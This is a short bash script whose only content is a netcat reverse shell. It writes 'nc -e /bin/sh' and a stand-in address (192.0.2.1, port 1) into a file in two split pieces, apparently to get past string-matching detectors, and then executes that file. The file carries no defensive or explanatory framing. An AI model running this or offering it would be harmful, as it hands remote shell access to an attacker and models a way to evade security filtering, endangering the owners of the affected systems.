#!/bin/bash
echo -n 'nc -e ' > x; echo '/bin/sh 192.0.2.1 1' >> x; sh x
